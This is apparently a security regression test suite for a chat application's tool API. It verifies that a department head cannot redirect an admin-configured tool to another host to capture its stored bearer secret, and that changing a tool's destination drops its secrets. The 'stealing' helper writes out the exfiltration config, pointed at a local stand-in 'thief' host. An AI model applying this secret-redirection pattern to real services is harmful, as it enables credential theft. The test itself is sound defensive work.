import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTrapServer, type TrapServer } from "../fakes/trap-server.js";
import { addMember, call, signUp, useChatApp } from "../http/chat-helpers.js";
import type { Member, Tenant } from "../http/identity-helpers.js";
import { modelCalls } from "./tool-attack-helpers.js";

/**
 * A department head steals a tool's secret (issue 10, finding 3, high): `PATCH /tools/:id` changed the
 * url, allowedHosts or headers and kept the stored secrets, so the next call sent the secret to a host
 * of the editor's choice. Now a change of where or how a tool sends its secrets drops them unless they
 * are sent again, and a tool holding secrets someone else set is changed only by them or an org:admin.
 * The trap plays both the real API (127.0.0.1) and the thief's host (localhost).
 */

const SECRET = "admin-set-secret-8c1f0e";
const HEAD_SECRET = "head-own-secret-31a9d2";

describe("attack: moving a tool's secret to another host", () => {
  const t = useChatApp({ TOOLS_ALLOW_PRIVATE_NETWORKS: "true" });
  let trap: TrapServer;
  let tenant: Tenant;
  let head: Member;
  const api = () => `http://127.0.0.1:${trap.port}`;
  const thief = () => `http://localhost:${trap.port}`;

  /** What an organisation admin registers: a department tool with a bearer secret. */
  async function adminTool(name: string) {
    const res = await call(t, "POST", "/tools", {
      token: tenant.token,
      body: {
        name,
        kind: "http",
        departmentId: tenant.generalId,
        config: {
          url: `${api()}/api/items/{{id}}`,
          allowedHosts: ["127.0.0.1"],
          headers: { authorization: "Bearer {{secret:TOKEN}}" },
          secrets: { TOKEN: SECRET },
        },
      },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.secretsSetById).toBe(tenant.adminId);
    return res.body.id as string;
  }

  /** The thief's change: same headers (so the stored secret would ride along), their own host. */
  const stealing = (path: string) => ({
    config: {
      url: `${thief()}/${path}/{{id}}`,
      allowedHosts: ["localhost"],
      headers: { authorization: "Bearer {{secret:TOKEN}}" },
    },
  });

  beforeAll(async () => {
    trap = await startTrapServer();
    tenant = await signUp(t);
    head = await addMember(t, tenant.token, tenant.generalId, "dept_head");
  });
  afterAll(() => trap.close());

  it("a department head cannot change a tool holding secrets an admin set; the secret never reaches their host", async () => {
    const id = await adminTool("crm_lookup");
    for (const body of [
      stealing("steal"),
      {
        config: {
          ...stealing("steal").config,
          url: `${api()}/api/items/{{id}}`,
          allowedHosts: ["127.0.0.1", "localhost"],
        },
      },
      {
        description: "harmless looking",
        inputSchema: { type: "object", properties: { id: { type: "string" } } },
      },
      { departmentId: null },
    ]) {
      const res = await call(t, "PATCH", `/tools/${id}`, { token: head.token, body });
      expect(res.status, JSON.stringify(body)).toBe(403);
    }
    const after = await call(t, "GET", `/tools/${id}`, { token: tenant.token });
    expect(after.body.config).toMatchObject({
      url: `${api()}/api/items/{{id}}`,
      allowedHosts: ["127.0.0.1"],
    });
    // Switching it off is still theirs to do.
    const off = await call(t, "PATCH", `/tools/${id}`, { token: head.token, body: { enabled: false } });
    expect(off.status).toBe(200);
    await call(t, "PATCH", `/tools/${id}`, { token: tenant.token, body: { enabled: true } });
    const { rows } = await modelCalls(t, tenant, [{ name: "crm_lookup", arguments: { id: "7" } }]);
    expect(rows.map((r) => r.status)).toEqual(["ok"]);
    expect(trap.hits("/steal")).toEqual([]);
    expect(trap.requests.filter((r) => r.host.startsWith("localhost"))).toEqual([]);
    expect(trap.hits("/api/items/7").map((r) => r.headers.authorization)).toEqual([`Bearer ${SECRET}`]);
  });

  it("even the setter's change of url, allowedHosts or headers drops the stored secrets unless sent again", async () => {
    const id = await adminTool("crm_move");
    const moved = await call(t, "PATCH", `/tools/${id}`, { token: tenant.token, body: stealing("moved") });
    expect(moved.status).toBe(400);
    expect(moved.body.error.message).toMatch(/dropped .* send them again/);
    const hosts = await call(t, "PATCH", `/tools/${id}`, {
      token: tenant.token,
      body: {
        config: {
          url: `${api()}/api/items/{{id}}`,
          allowedHosts: ["127.0.0.1", "localhost"],
          headers: { authorization: "Bearer {{secret:TOKEN}}" },
        },
      },
    });
    expect(hosts.status).toBe(400);
    // A header that no longer names the secret: accepted, and the secret is gone.
    const plain = await call(t, "PATCH", `/tools/${id}`, {
      token: tenant.token,
      body: {
        config: {
          url: `${thief()}/moved/{{id}}`,
          allowedHosts: ["localhost"],
          headers: { "x-note": "Bearer" },
        },
      },
    });
    expect(plain.status, JSON.stringify(plain.body)).toBe(200);
    expect(plain.body.config.secretNames).toEqual([]);
    expect(plain.body.secretsSetById).toBeNull();
    const { rows } = await modelCalls(t, tenant, [{ name: "crm_move", arguments: { id: "8" } }]);
    expect(rows.map((r) => r.status)).toEqual(["ok"]);
    expect(JSON.stringify(trap.hits("/moved"))).not.toContain(SECRET);
    // Sent again with the change: kept, and unchanged destinations keep their secrets (control).
    const again = await call(t, "PATCH", `/tools/${id}`, {
      token: tenant.token,
      body: { ...stealing("moved"), config: { ...stealing("moved").config, secrets: { TOKEN: "re-sent" } } },
    });
    expect(again.status).toBe(200);
    expect(again.body.config.secretNames).toEqual(["TOKEN"]);
    const sameDestination = await call(t, "PATCH", `/tools/${id}`, {
      token: tenant.token,
      body: { config: { ...stealing("moved").config, timeoutMs: 5_000 } },
    });
    expect(sameDestination.status).toBe(200);
    expect(sameDestination.body.config.secretNames).toEqual(["TOKEN"]);
  });

  it("a department head edits the tools whose secrets they set; another admin may edit any", async () => {
    const own = await call(t, "POST", "/tools", {
      token: head.token,
      body: {
        name: "head_tool",
        kind: "http",
        departmentId: tenant.generalId,
        config: {
          url: `${api()}/api/head/{{id}}`,
          allowedHosts: ["127.0.0.1"],
          headers: { authorization: "Bearer {{secret:TOKEN}}" },
          secrets: { TOKEN: HEAD_SECRET },
        },
      },
    });
    expect(own.status, JSON.stringify(own.body)).toBe(201);
    expect(own.body.secretsSetById).toBe(head.id);
    const edited = await call(t, "PATCH", `/tools/${own.body.id}`, {
      token: head.token,
      body: { description: "mine" },
    });
    expect(edited.status).toBe(200);
    const adminEdit = await call(t, "PATCH", `/tools/${own.body.id}`, {
      token: tenant.token,
      body: { description: "checked by the admin" },
    });
    expect(adminEdit.status).toBe(200);
    // The admin's change left the secrets as they were: still the head's.
    expect(adminEdit.body.secretsSetById).toBe(head.id);
  });

  it("an MCP server's secrets are dropped when its url or headers change", async () => {
    const created = await call(t, "POST", "/tools", {
      token: tenant.token,
      body: {
        name: "mcp_desk",
        kind: "mcp",
        config: {
          transport: "http",
          url: `${api()}/mcp`,
          headers: { "x-api-key": "{{secret:KEY}}" },
          secrets: { KEY: SECRET },
        },
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const moved = await call(t, "PATCH", `/tools/${created.body.id}`, {
      token: tenant.token,
      body: {
        config: { transport: "http", url: `${thief()}/mcp`, headers: { "x-api-key": "{{secret:KEY}}" } },
      },
    });
    expect(moved.status).toBe(400);
    const plain = await call(t, "PATCH", `/tools/${created.body.id}`, {
      token: tenant.token,
      body: { config: { transport: "http", url: `${thief()}/mcp` } },
    });
    expect(plain.status).toBe(200);
    expect(plain.body.config.secretNames).toEqual([]);
  });
});
